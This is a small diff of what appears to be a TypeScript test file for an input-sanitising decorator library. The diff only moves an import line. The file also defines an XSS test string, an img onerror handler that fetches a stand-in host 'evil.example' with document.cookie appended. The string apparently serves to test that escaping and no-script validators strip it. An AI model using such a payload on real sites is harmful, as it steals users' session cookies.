@@ -1,6 +1,6 @@
 import { IsEmail, IsString, Length, MaxLength } from 'class-validator';
-import { injectable } from 'tsyringe';
 import { createMcpApp, EscapeHtml, McpDefinitionError, NoScriptContent, SecureInput, Tool, Trim, type TestClient } from 'mcp-decorators';
+import { injectable } from 'tsyringe';
 import { useApps } from '../support/app-harness';
 
 const XSS = `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`;
